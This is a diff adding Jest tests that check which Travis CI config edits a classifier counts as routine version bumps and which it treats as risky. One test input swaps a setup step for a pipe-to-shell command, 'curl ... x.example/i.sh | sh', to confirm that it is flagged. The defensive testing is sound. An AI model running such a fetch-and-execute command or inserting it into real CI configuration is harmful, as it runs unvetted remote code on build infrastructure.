@@ -134,3 +134,24 @@ describe('routine Dependabot edits', () => {
     expect(isRoutineCiChange('.github/dependabot.yml', cfg(entry('npm')), cfg(entry('npm'), entry('pip', '    registries: "*"\n')))).toBe(false);
   });
 });
+
+describe('routine Travis CI edits', () => {
+  const travis = (rubies: string, jruby: string, extra = '') =>
+    `language: ruby\ndist: focal\nrvm:\n${rubies}  - ${jruby}\nbefore_install:\n  - gem install bundler\nscript: bundle exec rake\nmatrix:\n  fast_finish: true\n  include:\n    - rvm: ${jruby}\n      env: JRUBY_OPTS=--dev\n  allow_failures:\n    - rvm: ruby-head\n${extra}`;
+  const base = travis('  - 2.6.5\n  - 2.7.0\n', 'jruby-9.2.9.0');
+  it('treats the interpreter versions, the hosted image and version-only matrix entries as routine', () => {
+    expect(isRoutineCiChange('.travis.yml', base, travis('  - 2.6.6\n  - 2.7.1\n  - 3.0.0\n', 'jruby-9.2.11.0'))).toBe(true);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('dist: focal', 'dist: jammy\nsudo: false'))).toBe(true);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('    - rvm: ruby-head\n', '    - rvm: ruby-head\n    - rvm: jruby-head\n'))).toBe(true);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('  allow_failures:\n    - rvm: ruby-head\n', ''))).toBe(true);
+  });
+  it('does not treat a command, env, a matrix entry that sets more than versions, or an addon source as routine', () => {
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('gem install bundler', 'curl -s https://x.example/i.sh | sh'))).toBe(false);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('JRUBY_OPTS=--dev', 'JRUBY_OPTS=--dev RACK_VERSION=main'))).toBe(false);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('    - rvm: ruby-head\n', '    - rvm: ruby-head\n    - rvm: 3.3\n      script: ./deploy.sh\n'))).toBe(false);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('script: bundle exec rake', 'script: bundle exec rake\ndeploy:\n  provider: rubygems'))).toBe(false);
+    const apt = (name: string) => base.replace('script:', `addons:\n  apt:\n    sources:\n      - name: ${name}\nscript:`);
+    expect(isRoutineCiChange('.travis.yml', apt('ppa:ruby/stable'), apt('ppa:someone/else'))).toBe(false);
+    expect(isRoutineCiChange('.travis.yml', base, 'rvm: [')).toBe(false);
+  });
+});
